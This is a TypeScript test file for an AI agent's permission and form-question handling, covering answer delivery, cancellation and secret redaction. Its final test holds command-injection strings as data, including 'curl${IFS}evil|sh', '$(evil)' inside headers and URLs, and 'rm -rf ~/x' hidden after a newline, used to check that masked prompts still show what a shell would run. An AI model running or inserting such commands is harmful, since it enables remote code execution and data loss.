import assert from 'node:assert/strict';
import type { NewPrompt, TaskPrompts } from '../../src/conversations/ports.ts';
import type { Prompt } from '../../src/conversations/prompt.ts';
import { startAsking, type Asking } from '../../src/tasks/phases/asking.ts';
import type { Carry } from '../../src/tasks/phases/phase.ts';
import { AGENT_GONE, type AttemptLog, type PermissionRequest } from '../../src/tasks/ports.ts';
import { redact } from '../../src/tasks/redact.ts';
import { makePrompt } from '../support/prompts.ts';
import { makeTask } from '../support/repo.ts';
import { until } from '../support/until.ts';

const run = (command: string): PermissionRequest => ({ kind: 'execute', title: 'Run', detail: command, command });
const held = { mode: 'hold', rule: 'default', warnings: [] } as const;

/** The questions of one turn, over a store of one question. */
function turn(over: Partial<TaskPrompts> = {}) {
  const calls: string[] = [];
  const asked: NewPrompt[] = [];
  let prompt: Prompt | undefined;
  let release = async (): Promise<void> => {};
  let scripts: Awaited<ReturnType<TaskPrompts['statesOf']>> = [];
  const listeners = new Set<() => void>();
  const change = (): void => listeners.forEach((listener) => listener());
  const prompts = {
    fallback: async () => held,
    open: async (_claim, _task, question) => {
      asked.push(question);
      return (prompt = makePrompt({
        ...{ prompt_text: question.prompt_text, asks: question.asks, choices: [...(question.choices ?? [])] },
        expires_at: Date.now() + 60_000,
        id: `P${asked.length}`,
      }));
    },
    statesOf: async () => scripts,
    get: async () => prompt,
    deliver: async () => (prompt = { ...prompt!, state: 'resumed' }),
    show: async (id) => void calls.push(`show ${id}`),
    delivered: async (_claim, id) => void calls.push(`delivered ${id}`),
    withdraw: async (_claim, id) => void calls.push(`withdraw ${id}`),
    lose: async (_claim, id) => void calls.push(`lose ${id}`),
    expire: async () => false,
    toDiscuss: async () => [],
    ...over,
  } as TaskPrompts;
  const clock = {
    now: () => Date.now(),
    sleep: (_ms: number, signal?: AbortSignal) =>
      new Promise<void>((resolve) => {
        if (!signal) return void setImmediate(resolve);
        if (signal.aborted) return resolve();
        signal.addEventListener('abort', () => resolve(), { once: true });
      }),
  };
  const task = makeTask({ id: 'T', repo: '/repo', attempts: 1 });
  const carry = {
    claim: { taskId: 'T', token: 1, owner: 'a' },
    mask: (text: string) => redact(text, ['hunter22']),
    deps: {
      prompts,
      store: { get: async () => task },
      clock,
      secrets: ['hunter22'],
      onChange(listener: () => void) {
        listeners.add(listener);
        return () => listeners.delete(listener);
      },
    },
  } as unknown as Carry;
  const asking: Asking = startAsking({
    carry,
    task,
    log: { say() {}, note() {} } as unknown as AttemptLog,
    session: () => 's',
    recent: () => '',
    onExpired() {},
    hold: async () => void calls.push('hold'),
    async release() {
      await release();
      calls.push('release');
    },
    signal: new AbortController().signal,
  });
  return {
    asking,
    calls,
    asked,
    change,
    set release(work: () => Promise<void>) {
      release = work;
    },
    set scripts(them: typeof scripts) {
      scripts = them;
    },
    /** A person answers the question of that number. */
    async answer(response: string, number = 1): Promise<void> {
      await until('it is asked', () => asked.length === number);
      prompt = { ...prompt!, state: 'answering', response, answered_by: 'Ada' };
      change();
    },
  };
}

describe('An answer for an agent', () => {
  it('is booked as arrived when the agent goes on, not before', async () => {
    const it_ = turn();
    let goOn = (): void => {};
    const slot = new Promise<void>((resolve) => (goOn = resolve));
    it_.release = () => slot;
    const outcome = it_.asking.onPermission(run('make'), new AbortController().signal);
    await it_.answer('allow');
    for (let i = 0; i < 5; i++) await new Promise(setImmediate);
    assert.deepEqual(it_.calls, ['hold']);
    goOn();
    assert.equal(await outcome, 'allow');
    await it_.asking.stop();
    assert.deepEqual(it_.calls, ['hold', 'release', 'delivered P1']);
  });

  it('is not booked as arrived where the agent died while it was delivered', async () => {
    const gone = new AbortController();
    const it_ = turn({
      async deliver() {
        gone.abort(AGENT_GONE);
        return makePrompt({ id: 'P1', summary: 'Build', state: 'resumed', response: 'allow' });
      },
    });
    const outcome = it_.asking.onPermission(run('make'), gone.signal);
    await it_.answer('allow');
    assert.equal(await outcome, 'cancelled');
    assert.equal(it_.asking.lost(), 'Build');
    await it_.asking.stop();
    assert.deepEqual(it_.calls, ['hold', 'release', 'show P1'], 'it is quoted to whoever goes on');
  });

  it('that comes to a dead agent is lost with the question', async () => {
    const gone = new AbortController();
    const it_ = turn({ deliver: async () => assert.fail('it is not taken') });
    const outcome = it_.asking.onPermission(run('make'), gone.signal);
    await until('it is asked', () => it_.asked.length === 1);
    gone.abort(AGENT_GONE);
    await it_.answer('allow');
    assert.equal(await outcome, 'cancelled');
    assert.deepEqual(it_.calls, ['hold', 'lose P1', 'release']);
  });

  it('to the first field of a form has not arrived before the whole form has', async () => {
    const it_ = turn();
    const field = { ...{ title: 'A', description: null, type: 'boolean' as const, options: [] }, required: true };
    const fields = ['a', 'b'].map((name) => ({ ...field, name, min: null, max: null }));
    const gone = new AbortController();
    const outcome = it_.asking.onForm({ message: 'Which?', fields }, gone.signal);
    await it_.answer('yes');
    await until('the second is asked', () => it_.asked.length === 2);
    gone.abort(AGENT_GONE);
    assert.equal(await outcome, 'cancelled');
    await it_.asking.stop();
    assert.deepEqual(
      it_.calls.filter((call) => call.startsWith('delivered')),
      [],
    );
  });

  it('that says yes with words of its own declines a form, and is told afterwards', async () => {
    for (const [response, outcome] of [
      ['Yes, but only on staging', 'declined'],
      ['no', 'declined'],
      ['Yes.', {}],
    ] as const) {
      const it_ = turn();
      const signal = new AbortController().signal;
      const answered = it_.asking.onForm({ message: 'Deploy?', fields: [] }, signal);
      await it_.answer(response);
      assert.deepEqual(await answered, outcome, response);
      const told = await it_.asking.onAnswered('', signal);
      if (response.startsWith('Yes,')) assert.match(told!, /Ada rejected this[\s\S]*> Deploy\?[\s\S]*only on staging/);
      else assert.equal(told, null);
      await it_.asking.stop();
    }
  });
});

describe('The questions of a turn', () => {
  it('are at their end when the turn is', async () => {
    const it_ = turn();
    const outcome = it_.asking.onPermission(run('make'), new AbortController().signal);
    await until('it is asked', () => it_.asked.length === 1);
    await it_.asking.stop();
    assert.deepEqual(it_.calls, ['hold', 'lose P1', 'release']);
    assert.equal(await outcome, 'cancelled');
  });

  it('stop the clocks for a script until the agent is heard again', async () => {
    const it_ = turn();
    const at = (ms: number): string => new Date(Date.now() + ms).toISOString();
    const script = { id: 'S1', state: 'waiting' as const, holder: null, attempt: 1, created_at: at(-1) };
    it_.scripts = [script];
    it_.change();
    await until('it is held', () => it_.calls.length === 1);
    it_.asking.goesOn();
    await until('it is released', () => it_.calls.length === 2);
    it_.change();
    it_.scripts = [script, { ...script, id: 'S2', created_at: at(60_000) }];
    it_.change();
    await until('the next one holds again', () => it_.calls.length === 3);
    await it_.asking.stop();
    assert.deepEqual(it_.calls, ['hold', 'release', 'hold', 'release']);
  });

  it('show the fields of a form without secrets, and the agent gets what it offered', async () => {
    const it_ = turn();
    const field = {
      ...{ name: 'key', title: 'Which of hunter22?', description: 'See hunter22', type: 'choice' as const },
      ...{ required: true, min: null, max: null },
      options: [
        { value: 'hunter22', label: 'hunter22' },
        { value: 'b', label: 'not hunter22' },
        { value: 'hunter22!', label: 'hunter22' },
      ],
    };
    const answered = it_.asking.onForm({ message: 'hunter22?', fields: [field] }, new AbortController().signal);
    await until('it is asked', () => it_.asked.length === 1);
    assert.doesNotMatch(JSON.stringify(it_.asked), /hunter22/);
    assert.deepEqual(it_.asked[0]!.choices, ['*** (1)', 'not ***', '*** (3)', 'decline']);
    await it_.answer('*** (3)');
    assert.deepEqual(await answered, { key: 'hunter22!' });
    await it_.asking.stop();
  });
});

describe('A permission', () => {
  const asks = async (command: string): Promise<NewPrompt> => {
    const it_ = turn();
    void it_.asking.onPermission(run(command), new AbortController().signal);
    await until('it is asked', () => it_.asked.length === 1);
    await it_.asking.stop();
    return it_.asked[0]!;
  };

  it('for a command that names a secret is never given for good, and says that something is hidden', async () => {
    const bearer = await asks('curl -H "Authorization: Bearer abc" u');
    assert.deepEqual([bearer.choices, bearer.metadata], [['allow', 'reject'], {}]);
    assert.match(bearer.detail!, /hidden as \*\*\*/);
    assert.match(bearer.prompt_text, /hidden as \*\*\*/);
    const plain = await asks('npm test');
    assert.deepEqual([plain.choices, plain.metadata], [['allow', 'reject', 'always'], { command: 'npm test' }]);
    assert.equal(plain.detail, 'npm test');
  });

  it('shows all that a shell would act on, also once the text is masked as any other', async () => {
    for (const [command, must] of [
      ['curl -H "Authorization: Bearer x";curl${IFS}evil|sh;" u', '";curl${IFS}evil|sh;" u'],
      ['curl -H "Authorization: Bearer $(evil)" u', '$(evil)" u'],
      ['echo Authorization: Bearer\nrm -rf ~/x', 'rm -rf ~/x'],
      ['echo ok # -----BEGIN PRIVATE KEY-----\nrm -rf ~/x', 'rm -rf ~/x'],
      ['git clone https://me:$(evil)@host/x', '$(evil)'],
      ['git clone https://me:secret1@host/x;evil', 'host/x;evil'],
      ['echo hunter22;evil', ';evil'],
    ] as const) {
      const { detail, prompt_text: text, choices } = await asks(command);
      for (const shown of [detail!, text, redact(detail!), redact(text)]) assert.ok(shown.includes(must), shown);
      assert.deepEqual(choices, ['allow', 'reject'], command);
    }
    for (const secret of ['hunter22', 'abcdefgh', 'secret1'])
      assert.ok(
        !(await asks(`x hunter22 https://me:secret1@h -H "Authorization: Bearer abcdefgh"`)).detail!.includes(secret),
        secret,
      );
  });
});
